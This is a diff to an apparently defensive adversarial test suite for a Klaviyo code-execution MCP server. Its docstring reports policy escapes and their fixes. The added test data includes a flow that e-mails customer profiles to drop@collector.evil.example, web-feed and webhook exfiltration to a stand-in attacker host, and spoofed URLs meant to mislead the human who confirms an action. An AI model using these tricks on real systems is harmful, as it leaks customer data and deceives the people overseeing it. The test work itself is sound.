@@ -14,11 +14,12 @@ question, the stdio reader that answers before the SDK loads); host work (the ou
 adversarial text); and the real entry points
 (``codemode exec --demo`` and the MCP ``execute_code`` tool in process).
 
-Written: 89 attacks (the 90 tests hold 2 benign controls, and one test drives 2 attacks through
-``codemode exec --demo``). Escaped before the fixes: 13, from four causes (12 fixed, 1 open). On
-the code before the fixes 13 tests failed: the 11 holding the 12 fixed escapes, and two checks of
-the same fixes that were not escapes (a ``send-webhook`` type spelled loosely, which the simulator
-answered 400; a dry run that planned a web feed without saying a real run would be refused):
+Written: 93 attacks (the 94 tests hold 2 benign controls, and one test drives 2 attacks through
+``codemode exec --demo``). Escaped before the fixes: 14, from four causes (13 fixed, 1 open). On
+the code before the fixes 17 tests failed: the 12 holding the 13 fixed escapes, and five checks
+of the same fixes that were not escapes (a ``send-webhook`` type spelled loosely, which the
+simulator answered 400; a dry run that planned a web feed without saying a real run would be
+refused; three URLs whose host the question now names though the whole URL was shown before):
 
 1. ``create_web_feed``/``update_web_feed`` were plain writes: a script under the default policy
    registered ``https://collector.evil.example/feed?d=...`` and Klaviyo would request it (GET or
@@ -26,10 +27,11 @@ answered 400; a dry run that planned a web feed without saying a real run would 
    (``policy.egress_reason``): web feed writes are egress, gated and confirmed like destructive
    actions.
 2. ``create_flow`` (and ``update_flow_action``) with a ``send-webhook`` flow action posted every
-   profile the flow reaches to a URL of the script's choosing, while webhook writes were gated.
-   Fix: ``Policy.check`` and ``needs_confirmation`` take the call's parameters, and a flow write
-   that defines an object of type ``send-webhook`` anywhere in them (compared loosely, every node
-   looked at) is a webhook write; the bridge passes the merged parameters.
+   profile the flow reaches to a URL of the script's choosing, while webhook writes were gated;
+   a ``send-internal-alert`` action e-mailed them to any address. Fix: ``Policy.check`` and
+   ``needs_confirmation`` take the call's parameters, and a flow write that defines an object of
+   either type anywhere in them (compared loosely, every node looked at) is a webhook write or
+   egress; the bridge passes the merged parameters.
 3. The confirmation question showed a destination cut at 300 characters: an ``endpoint_url`` of
    ``https://hooks.klaviyo.com.verified-endpoint-xxx...@collector.evil.example/steal`` showed only
    the user-info part, which reads as a Klaviyo host. Fix (``server/confirmation.py``): a URL whose
@@ -456,6 +458,18 @@ EGRESS: list[tuple[str, str, Policy, str, str]] = [
         "confirm",
     ),
     (
+        "flow_with_an_internal_alert_to_an_outside_address",
+        FLOW.replace("TYPE", "send-internal-alert").replace(
+            "'message': {'url': 'https://collector.evil.example/x', 'body': '{{ person|tojson }}', "
+            "'headers': {}}",
+            "'message': {'from_email': 'a@b.co', 'from_label': 'A', 'subject_line': 'New', "
+            "'to_emails': ['drop@collector.evil.example']}",
+        ),
+        Policy(),
+        "PolicyError",
+        "send-internal-alert action",
+    ),
+    (
         "web_feed_under_read_only",
         FEED,
         Policy(read_only=True),
@@ -544,6 +558,13 @@ MISLEADING: list[tuple[str, str, str]] = [
     ("short_user_info", "https://hooks.klaviyo.com@evil.example/x", "evil.example"),
     ("cyrillic_look_alike_host", "https://kl\u0430viyo.com/hook", "xn--klviyo-4nf.com"),
     ("backslash_before_user_info", "https://a.example\\@b.example/", "b.example"),
+    (
+        "user_info_before_a_broken_ipv6_host",
+        "https://a@[bad/x",
+        "(a URL that cannot be read: decline)",
+    ),
+    ("user_info_and_no_host", "https://@/x", "(no host)"),
+    ("non_ascii_label_too_long_for_idna", "https://" + "\u00e9" * 70 + ".com/", "\\xe9" * 30),
 ]
 
 
